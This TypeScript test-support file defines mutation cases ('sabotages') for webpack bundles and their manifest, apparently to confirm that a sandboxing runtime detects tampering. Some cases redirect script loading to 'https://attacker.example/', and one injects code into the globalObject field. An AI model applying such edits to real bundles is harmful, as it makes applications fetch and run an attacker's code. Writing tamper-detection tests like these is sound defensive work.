// Sabotages of what is webpack's alone: the files of chunks, which may run before the kernel, and what the map says of runtimes.

import {
  type Manifest,
  type Sabotage,
  codeStart,
  edit,
  withManifest,
} from "../../../esbuild/test/support/sabotage.ts";

interface WebpackManifest extends Manifest {
  webpack: { globalObject: string; chunkGlobal: string; publicPath: string };
  outputs: (Manifest["outputs"][number] & {
    after?: string;
    runtime?: {
      compartments: string[];
      views: [string, string][];
      frozen: [string, (string | number)[]][];
      host?: { loads: string[] };
    };
  })[];
}

const withMap = (change: (map: WebpackManifest) => boolean | void): Sabotage =>
  // Holds: made by webpack's plugin.
  withManifest((manifest) => change(manifest as WebpackManifest));

const withRuntime = (
  change: (
    runtime: NonNullable<WebpackManifest["outputs"][number]["runtime"]>,
    map: WebpackManifest,
  ) => boolean | void,
): Sabotage =>
  withMap((map) => {
    const { runtime } = map.outputs.find((output) => output.runtime?.host !== undefined) ?? {};
    return runtime === undefined ? false : change(runtime, map);
  });

/** Edits a file that may run before the kernel; `kinds`: what it is. */
const editChunk = (kind: string, change: (code: string) => string): Sabotage =>
  edit((text, _, found) => {
    const start = codeStart(text);
    const opening = text.slice(0, start);
    const isEarly = !/ulkhead(?:Kernel|Runtime)_|require\(/.test(opening);
    return isEarly && kind === found ? opening + change(text.slice(start)) : undefined;
  });

const EARLY = [
  "({}).x = 1;",
  "(() => {})();",
  "(function () {})();",
  "new (class {})();",
  "[...'x'];",
  "({ [Object.name]: 1 });",
  "`${Object.name}`;",
  "Object.name;",
  "class A { static {} }",
  "let x = (() => {})();",
  "(() => {})``;",
  "(async () => {})();",
];

const early = (kind: string): readonly (readonly [string, Sabotage])[] =>
  EARLY.flatMap((code) => [
    [`runs ${code} early in a ${kind}`, editChunk(kind, (text) => code + text)] as const,
    [
      `runs ${code} late in a ${kind}`,
      editChunk(kind, (text) =>
        kind === "script" ? text.replace(/\}\s*$/, `;${code}}\n`) : `${text};${code}\n`,
      ),
    ] as const,
  ]);

const replacing = (
  title: string,
  kind: string,
  pattern: RegExp,
  by: string,
): readonly [string, Sabotage] => [title, editChunk(kind, (text) => text.replace(pattern, by))];

const PUSH = /\)\.push\(\[/;

export const WEBPACK_SABOTAGES: readonly (readonly [string, Sabotage])[] = [
  ...early("script"),
  ...early("commonjs"),
  replacing("pushes onto another list", "script", PUSH, "&&{push(){}}).push(["),
  replacing("pushes by another method", "script", PUSH, ").concat(["),
  replacing("calls while it pushes", "script", PUSH, ").push([(()=>{})(),"),
  replacing("spreads while it pushes", "script", PUSH, ").push([...'x',"),
  replacing("pushes computed keys", "script", PUSH, ").push([{[Object.name]:1},"),
  replacing("pushes a value of a getter", "script", PUSH, ").push([Object.name,"),
  replacing("pushes an instance", "script", PUSH, ").push([new (class{}),"),
  replacing("pushes a class with a static block", "script", PUSH, ").push([class{static{}},"),
  replacing("puts its own list there", "script", /\(\w+(?:\.\w+|\["\w+"\])/, "(self.own"),
  replacing("exports what it calls", "commonjs", /exports\.ids ?= ?/, "exports.ids=(()=>{})()||"),
  replacing("exports by a computed key", "commonjs", /exports\.ids/, "exports[Object.name]"),
  replacing("writes elsewhere", "commonjs", /exports\.ids/, "Object.ids"),
  [
    "requires no kernel first",
    edit((text) => text.replace(/^"use strict";require\([^)]*\);/, '"use strict";')),
  ],
  [
    "requires another file first",
    edit((text) => text.replace(/^"use strict";require\([^)]*\);/, '"use strict";require("./x");')),
  ],
  [
    "lets the runtime load another file",
    edit((text) => text.replace(/\}\)\(\["/, '})(["https://attacker.example/x.js","')),
  ],
  ["makes a compartment more", withRuntime(({ compartments }) => void compartments.push("nobody"))],
  ["makes a compartment less", withRuntime(({ compartments }) => void compartments.pop())],
  [
    "freezes the modules of a package less",
    withRuntime(({ frozen }) => (frozen.pop() === undefined ? false : undefined)),
  ],
  ["freezes the modules of nobody", withRuntime(({ frozen }) => void frozen.push(["nobody", []]))],
  [
    "freezes a module for two packages",
    withRuntime(({ frozen }) => {
      const [first] = frozen;
      if (first === undefined) return false;
      frozen.push(first);
      return undefined;
    }),
  ],
  ["says a view more", withRuntime(({ views }) => void views.push(["fs", "b"]))],
  ["says a view of nobody's", withRuntime(({ views }) => void views.push(["os", "nobody"]))],
  [
    "says a view of the application's",
    withRuntime(({ views }) => void views.push(["os", "$root$"])),
  ],
  ["says another file to load", withRuntime(({ host }) => void host?.loads.push("x.js"))],
  [
    "says a file to load less",
    withRuntime(({ host }) => (host?.loads.pop() === undefined ? false : undefined)),
  ],
  [
    "says that there is no host",
    withRuntime((runtime) => {
      delete runtime.host;
    }),
  ],
  [
    "says no runtime",
    withMap(({ outputs }) => {
      for (const output of outputs) delete output.runtime;
    }),
  ],
  [
    "says that a file comes after one without a kernel",
    withMap(({ outputs }) => {
      const early = outputs.find(({ kind, runtime }) => runtime === undefined && kind !== "kernel");
      if (early === undefined) return false;
      early.after = early.path;
      return undefined;
    }),
  ],
  [
    "takes what it loads for data",
    withRuntime(({ host }, map) => {
      const loaded = map.outputs.find(({ path }) => host?.loads.includes(path) === true);
      if (loaded === undefined) return false;
      loaded.kind = "data";
      return undefined;
    }),
  ],
  [
    "says another public path",
    withRuntime((runtime, { webpack, outputs }) => {
      if (outputs.every(({ kind }) => kind !== "script") || runtime.host?.loads.length === 0)
        return false;
      webpack.publicPath = "https://attacker.example/";
      return undefined;
    }),
  ],
  [
    "says another queue",
    withMap(({ webpack, outputs }) => {
      if (outputs.every(({ kind, runtime }) => kind !== "script" || runtime !== undefined))
        return false;
      webpack.chunkGlobal = "canary";
      return undefined;
    }),
  ],
  ["says code for a name", withMap(({ webpack }) => void (webpack.globalObject = "x=canary()"))],
  ["says that another bundler made it", withMap((map) => void (map.bundler = "esbuild"))],
];
